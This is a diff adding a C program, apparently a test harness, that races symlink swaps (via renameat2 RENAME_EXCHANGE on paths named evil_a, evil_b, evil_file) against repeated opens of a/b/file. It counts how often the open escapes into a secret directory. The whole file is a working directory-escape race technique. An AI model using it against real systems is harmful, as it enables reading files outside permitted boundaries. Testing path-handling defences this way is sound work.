@@ -1,0 +1,52 @@
+// Opens DIRECTORY/a/b/file while another process keeps replacing its components, each in turn, by links to the folder
+// that holds the secret one, and by renaming: DIRECTORY TRIES. Prints how often it got out.
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+int main(int argc, char** argv) {
+  if (argc < 3 || chdir(argv[1]) != 0) return 2;
+  // a/b/file, and beside each component a link to where the secret is: a is like secret, b like secret/b.
+  if (symlink("secret", "evil_a") != 0 || symlink("../secret/b", "a/evil_b") != 0 ||
+      symlink("../../secret/b/file", "a/b/evil_file") != 0) {
+    return 2;
+  }
+  const pid_t other = fork();
+  if (other == 0) {
+    prctl(PR_SET_PDEATHSIG, SIGKILL);
+    while (1) {
+      static const char* const pairs[][2] = {{"a", "evil_a"}, {"a/b", "a/evil_b"}, {"a/b/file", "a/b/evil_file"}};
+      for (int i = 0; i < 3; ++i) {
+        renameat2(AT_FDCWD, pairs[i][0], AT_FDCWD, pairs[i][1], RENAME_EXCHANGE);
+        renameat2(AT_FDCWD, pairs[i][0], AT_FDCWD, pairs[i][1], RENAME_EXCHANGE);
+      }
+    }
+  }
+  const int tries = atoi(argv[2]);
+  int opened = 0, out = 0;
+  for (int i = 0; i < tries; ++i) {
+    const int fd = open("a/b/file", O_RDONLY);
+    if (fd < 0) continue;
+    char text[8] = "";
+    if (read(fd, text, sizeof text - 1) > 0) {
+      ++opened;
+      out += strncmp(text, "secret", 6) == 0;
+    }
+    close(fd);
+  }
+  kill(other, SIGKILL);
+  waitpid(other, NULL, 0);
+  printf("opened %s, got out %d times\n", opened > 0 ? "some" : "none", out);
+  return 0;
+}
